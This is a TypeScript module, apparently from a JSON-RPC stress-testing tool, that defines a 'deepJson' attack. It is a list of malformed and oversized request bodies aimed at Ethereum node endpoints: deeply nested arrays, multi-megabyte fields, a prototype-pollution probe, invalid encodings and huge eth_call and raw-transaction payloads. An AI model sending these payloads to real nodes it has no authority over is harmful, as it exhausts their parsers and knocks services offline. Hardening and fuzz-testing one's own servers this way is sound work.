import type { Attack } from '../AttackTarget.ts'
import { request } from '../request.ts'
import { rotate } from '../rotate.ts'

const MEGABYTES = 4_900_000

/** Messages that are no trouble to send and much to parse. */
export const deepJson: Attack = (options) => rotate(options, bodies, 4)

const nested = (depth: number) =>
  `{"jsonrpc":"2.0","id":1,"method":"eth_chainId","params":${'['.repeat(depth)}${']'.repeat(depth)}}`

const bodies: readonly (string | Uint8Array)[] = [
  '['.repeat(100_000),
  '{"a":'.repeat(100_000),
  nested(62),
  nested(64),
  nested(1_000_000),
  `[${'1,'.repeat(1_000_000)}1]`,
  `[${'[],'.repeat(99_000)}1]`,
  `"${'a'.repeat(MEGABYTES)}"`,
  '1'.repeat(MEGABYTES),
  ' '.repeat(5_000_001),
  `{"jsonrpc":"2.0","id":"${'i'.repeat(MEGABYTES)}","method":"eth_chainId"}`,
  `{"jsonrpc":"2.0","id":${'9'.repeat(100_000)},"method":"eth_chainId"}`,
  `{"jsonrpc":"2.0","id":1e999,"method":"eth_chainId"}`,
  `{"jsonrpc":"2.0","id":1,"method":"${'m'.repeat(MEGABYTES)}"}`,
  `{"__proto__":{"id":1},"constructor":1,"jsonrpc":"2.0","method":"__proto__","params":{}}`,
  '{"jsonrpc":"2.0","id":1,"method":"\\ud800","params":["\\udfff"]}',
  '{"jsonrpc":"2.0","id":1,"id":2,"method":"eth_chainId","method":"eth_call"}',
  Uint8Array.of(0xff, 0xfe, 0x00, 0x5b, 0x5d),
  Uint8Array.of(0x22, 0xed, 0xa0, 0x80, 0x22),
  new Uint8Array(1_000_000),
  '',
  'null',
  JSON.stringify(request('eth_call', { data: `0x${'00'.repeat(2_400_000)}` })),
  JSON.stringify(request('eth_sendRawTransaction', `0x${'f9'.repeat(2_400_000)}`)),
  JSON.stringify(request('web3_sha3', `0x${'00'.repeat(2_400_000)}`)),
]
